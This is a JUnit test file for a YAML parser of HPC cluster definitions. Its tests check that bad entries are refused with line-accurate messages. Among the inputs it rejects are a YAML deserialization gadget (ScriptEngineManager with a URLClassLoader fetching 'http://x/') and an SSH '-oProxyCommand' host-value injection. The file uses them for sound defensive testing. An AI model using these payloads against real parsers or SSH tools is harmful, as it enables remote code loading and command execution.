package io.examlops.fleet.registry;

import static org.assertj.core.api.Assertions.assertThat;

import io.examlops.fleet.model.ClusterDefinition;
import io.examlops.fleet.model.JumpHost;
import io.examlops.fleet.model.TransportKind;
import io.examlops.fleet.scheduler.flux.FluxAdapter;
import io.examlops.fleet.scheduler.mock.MockAdapter;
import io.examlops.fleet.scheduler.slurm.SlurmAdapter;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;

class ClustersYamlTest {
  private static final Path FILE = Path.of("/etc/examlops/clusters.yaml");
  private static final String HOST_KEY = RegistryFixture.fingerprint("hk");

  private static ClustersFileException failure(String text) {
    try {
      ClustersYaml.parse(text, FILE);
    } catch (ClustersFileException e) {
      return e;
    }
    throw new AssertionError("expected an error for:\n" + text);
  }

  @Test
  void readsEntriesInFileOrderWithDefaults() {
    String text =
        """
        # our clusters
        clusters:
          lxp:
            scheduler: slurm
            transport: ssh
            host: lxp-login.example.org
            user: hpcuser
            key: ~/.ssh/id_ed25519
            host_key: "%s"
          dev:
            scheduler: mock
            transport: local
        """
            .formatted(HOST_KEY);

    List<ClusterDefinition> definitions = ClustersYaml.parse(text, FILE).definitions();

    assertThat(definitions)
        .containsExactly(
            ClusterDefinition.ssh(
                "lxp",
                SlurmAdapter.KIND,
                "lxp-login.example.org",
                "hpcuser",
                "~/.ssh/id_ed25519",
                22,
                HOST_KEY),
            ClusterDefinition.local("dev", MockAdapter.KIND));
    assertThat(definitions.get(0).transport()).isEqualTo(TransportKind.SSH);
  }

  @Test
  void emptyFilesAndEmptySectionsHoldNoClusters() {
    assertThat(ClustersYaml.parse("", FILE).definitions()).isEmpty();
    assertThat(ClustersYaml.parse("# nothing yet\n", FILE).shape())
        .isEqualTo(ClustersYaml.Shape.MISSING);
    assertThat(ClustersYaml.parse("clusters:\n", FILE).shape()).isEqualTo(ClustersYaml.Shape.EMPTY);
    assertThat(ClustersYaml.parse("clusters: {}\n", FILE).shape())
        .isEqualTo(ClustersYaml.Shape.EMPTY);
  }

  @Test
  void malformedYamlNamesTheFileAndLine() {
    ClustersFileException e =
        failure("clusters:\n  lxp:\n    scheduler: slurm\n    host: \"unclosed\n");
    assertThat(e.line()).isGreaterThanOrEqualTo(4);
    assertThat(e.getMessage()).startsWith(FILE + ":").contains("not valid YAML");
  }

  /** Issue 34: both read "cluster 'alpha' has no settings". */
  @Test
  void anUnclosedBracketAfterANameIsASyntaxErrorWithItsLineAndColumn() {
    ClustersFileException e = failure("clusters:\n  alpha: [unclosed\n");

    assertThat(e.line()).isEqualTo(2);
    assertThat(e.getMessage())
        .startsWith(FILE + ":2: not valid YAML")
        .contains("flow sequence")
        .contains("(column 10)")
        .doesNotContain("has no settings");
  }

  @Test
  void aYamlTagIsRefusedAsATagAnywhereInTheFile() {
    ClustersFileException global =
        failure(
            "clusters:\n  alpha: !!javax.script.ScriptEngineManager"
                + " [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n");
    ClustersFileException local =
        failure("clusters:\n  lxp:\n    scheduler: mock\n    transport: !custom local\n");

    assertThat(global.getMessage())
        .startsWith(FILE + ":2: a YAML tag '!!javax.script.ScriptEngineManager' (column 10)")
        .contains("builds nothing from a tag")
        .contains("remove the tag")
        .doesNotContain("has no settings");
    assertThat(local.getMessage()).startsWith(FILE + ":4: a YAML tag '!custom'");
  }

  @Test
  void unknownKeyIsReportedOnItsLineWithTheKeysAllowed() {
    ClustersFileException e =
        failure("clusters:\n  lxp:\n    scheduler: slurm\n    transport: ssh\n    hots: a\n");
    assertThat(e.line()).isEqualTo(5);
    assertThat(e.getMessage())
        .isEqualTo(
            FILE
                + ":5: unknown key 'hots' in cluster 'lxp'; the keys are scheduler,"
                + " transport, host, user, key, port, host_key, certificate, jump, jump_keys,"
                + " jump_host_keys, rest_url, rest_api, rest_token_file, rest_signing_key,"
                + " rest_users, rest_workdir, rest_output_via, rest_output_mount, flux_uri");
  }

  /** flux_uri is the Flux adapter's setting: clusters.yaml takes it as users write it. */
  @Test
  void anAdapterSettingIsCheckedByItsAdapterOnItsLine() {
    String flux = "clusters:\n  tioga:\n    scheduler: flux\n    transport: local\n";

    assertThat(
            ClustersYaml.parse(flux + "    flux_uri: local:///run/flux/local  \n", FILE)
                .definitions())
        .containsExactly(
            ClusterDefinition.local("tioga", FluxAdapter.KIND)
                .withSetting("flux_uri", "local:///run/flux/local"));
    ClustersFileException invalid = failure(flux + "    flux_uri: http://x\n");
    assertThat(invalid.line()).isEqualTo(5);
    assertThat(invalid.getMessage()).contains("invalid Flux URI 'http://x'");
    assertThat(failure(flux + "    flux_uri:\n").getMessage())
        .contains(":5: 'flux_uri' has no value");
    assertThat(
            failure(flux.replace("flux", "slurm") + "    flux_uri: local:///run/flux/local\n")
                .getMessage())
        .contains(
            ":2: cluster 'tioga' has a flux_uri but its scheduler is slurm: remove flux_uri, or"
                + " use scheduler flux");
  }

  @Test
  void unknownTopLevelKeyIsRefused() {
    assertThat(failure("clusters:\nclustres:\n").getMessage())
        .contains(":2: unknown top-level key");
  }

  @Test
  void duplicateNameNamesBothLines() {
    ClustersFileException e =
        failure(
            "clusters:\n  a:\n    scheduler: mock\n    transport: local\n"
                + "  a:\n    scheduler: mock\n    transport: local\n");
    assertThat(e.line()).isEqualTo(5);
    assertThat(e.getMessage()).contains("listed twice (first on line 2)");
  }

  @Test
  void invalidNameStatesTheRule() {
    ClustersFileException e = failure("clusters:\n  Bad.Name:\n    scheduler: mock\n");
    assertThat(e.line()).isEqualTo(2);
    assertThat(e.getMessage())
        .contains("invalid cluster name 'Bad.Name'", "^[a-z][a-z0-9_-]{0,62}$");
  }

  @Test
  void badPortsAreRefusedOnTheirLine() {
    String prefix =
        "clusters:\n  lxp:\n    scheduler: slurm\n    transport: ssh\n    host: h\n    user: u\n";
    for (String port : List.of("0", "70000", "abc", "\"22\"", "22.5")) {
      ClustersFileException e = failure(prefix + "    port: " + port + "\n");
      assertThat(e.line()).as(port).isEqualTo(7);
      assertThat(e.getMessage()).as(port).contains("port");
    }
  }

  @Test
  void missingRequiredValuesSayWhatToAdd() {
    assertThat(failure("clusters:\n  lxp:\n    transport: local\n").getMessage())
        .contains(":2: cluster 'lxp' has no scheduler; add 'scheduler: ...' (slurm, flux or mock)");
    assertThat(
            failure(
                    "clusters:\n  lxp:\n    scheduler: slurm\n    transport: ssh\n"
                        + "    user: u\n")
                .getMessage())
        .contains(":2:", "has no host");
    assertThat(
            failure("clusters:\n  lxp:\n    scheduler: slurm\n    transport: ssh\n" + "    host:\n")
                .getMessage())
        .contains(":5: 'host' has no value");
  }

  @Test
  void valuesAreCheckedOnTheirLine() {
    String prefix = "clusters:\n  lxp:\n    scheduler: slurm\n    transport: ssh\n";
    assertThat(failure(prefix + "    host: -oProxyCommand=x\n    user: u\n").getMessage())
        .contains(":5: ", "is not a host name");
    assertThat(failure(prefix + "    host: h\n    user: u\n    host_key: MD5:aa\n").getMessage())
        .contains(":7: invalid fingerprint");
    assertThat(failure(prefix + "    host: h\n    user: u\n    key: id_rsa\n").getMessage())
        .contains(":7:", "relative");
    assertThat(
            failure("clusters:\n  lxp:\n    scheduler: pbs\n    transport: local\n").getMessage())
        .contains(":3: unknown scheduler 'pbs'");
    assertThat(
            failure(
                    "clusters:\n  lxp:\n    scheduler: mock\n    transport: local\n"
                        + "    host: h\n")
                .getMessage())
        .contains(":2:", "transport local, which takes no host");
  }

  @Test
  void jumpHostsAreReadInOrderAndWrittenBackTheSame() {
    String bastionKey = RegistryFixture.fingerprint("bastion");
    String text =
        """
        clusters:
          lxp:
            scheduler: slurm
            transport: ssh
            host: 10.0.0.5
            user: hpcuser
            key: ~/.ssh/id_lxp
            host_key: "%s"
            jump: jumpuser@bastion.example.org:2200, me@[fd00::1]:22
            jump_keys: ~/.ssh/id_jump,agent
            jump_host_keys: %s,%s
        """
            .formatted(HOST_KEY, bastionKey, HOST_KEY);

    ClusterDefinition lxp = ClustersYaml.parse(text, FILE).definitions().get(0);

    assertThat(lxp.jumps())
        .containsExactly(
            new JumpHost("jumpuser", "bastion.example.org", 2200, "~/.ssh/id_jump", bastionKey),
            new JumpHost("me", "fd00::1", 22, null, HOST_KEY));
    assertThat(lxp.jumps().get(1).pinned()).isEqualTo("me@[fd00::1]:22 host key " + HOST_KEY);
    String written = ClustersFile.entryText(lxp);
    assertThat(written).contains("jump: \"jumpuser@bastion.example.org:2200,me@[fd00::1]:22\"");
    assertThat(ClustersYaml.parse(written, FILE).definitions()).containsExactly(lxp);
  }

  @Test
  void malformedJumpHostsAreRefusedOnTheirLineWithTheForm() {
    String prefix =
        "clusters:\n  lxp:\n    scheduler: slurm\n    transport: ssh\n    host: h\n    user: u\n";
    assertThat(failure(prefix + "    jump: bastion\n").getMessage())
        .contains(":7:", "'bastion' is not written as user@host:port");
    assertThat(failure(prefix + "    jump: me@fd00::1:22\n").getMessage())
        .contains(":7:", "IPv6 address in brackets");
    assertThat(failure(prefix + "    jump: me@b:ssh\n").getMessage())
        .contains(":7:", "no port number");
    assertThat(failure(prefix + "    jump: me@a:22,,me@b:22\n").getMessage())
        .contains(":7:", "empty item");
    assertThat(
            failure(prefix + "    jump: me@a:22,me@b:22\n    jump_keys: ~/.ssh/id_a\n")
                .getMessage())
        .contains("jump_keys names 1 value but jump names 2 hops");
    assertThat(failure(prefix + "    jump_host_keys: " + HOST_KEY + "\n").getMessage())
        .contains(":7:", "jump_host_keys is set but jump is not");
    assertThat(failure(prefix + "    jump: me@a:22\n    jump_keys: id_a\n").getMessage())
        .contains("relative");
    assertThat(
            failure(
                    "clusters:\n  lxp:\n    scheduler: mock\n    transport: local\n"
                        + "    jump: me@a:22\n")
                .getMessage())
        .contains("transport local, which takes no host, user, key, port, host_key or jump hosts");
  }

  @Test
  void keyMaterialIsRefused() {
    String text =
        "clusters:\n  lxp:\n    scheduler: slurm\n    transport: ssh\n    host: h\n    user: u\n"
            + "    key: |\n      -----BEGIN OPENSSH PRIVATE KEY-----\n      abc\n";
    ClustersFileException e = failure(text);
    assertThat(e.line()).isEqualTo(7);
    assertThat(e.getMessage()).contains("looks like key material").doesNotContain("abc");
  }

  @Test
  void nestedValuesAndListsAreRefused() {
    assertThat(failure("clusters:\n  - lxp\n").getMessage())
        .contains(":1:", "must map each cluster's name");
    assertThat(failure("clusters:\n  lxp:\n    scheduler: [slurm]\n").getMessage())
        .contains(":3: 'scheduler' of cluster 'lxp' must be a single value");
    assertThat(failure("- a\n").getMessage()).contains(":1:", "one key, 'clusters'");
  }

  @Test
  void aliasesAreRefusedRatherThanMisread() {
    ClustersFileException e =
        failure(
            "clusters:\n  a:\n    scheduler: &s mock\n    transport: local\n"
                + "  b:\n    scheduler: *s\n    transport: local\n");
    assertThat(e.line()).isEqualTo(6);
    assertThat(e.getMessage()).contains("is a YAML alias");
  }

  @Test
  void aSecondDocumentIsRefused() {
    assertThat(failure("clusters:\n---\nclusters:\n").getMessage())
        .contains("second YAML document");
  }

  @Test
  void flowStyleIsReadable() {
    ClustersYaml.Document document =
        ClustersYaml.parse("clusters: {dev: {scheduler: mock, transport: local}}\n", FILE);
    assertThat(document.shape()).isEqualTo(ClustersYaml.Shape.FLOW);
    assertThat(document.definitions())
        .containsExactly(ClusterDefinition.local("dev", MockAdapter.KIND));
  }
}
